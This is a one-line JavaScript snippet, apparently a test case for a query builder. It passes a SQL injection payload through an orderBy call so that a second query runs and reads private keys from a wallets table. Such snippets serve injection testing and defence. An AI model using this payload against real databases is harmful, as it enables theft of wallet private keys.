(api) => api.currentUser.accounts().orderBy(() => '1); SELECT private_key FROM wallets --').execute()
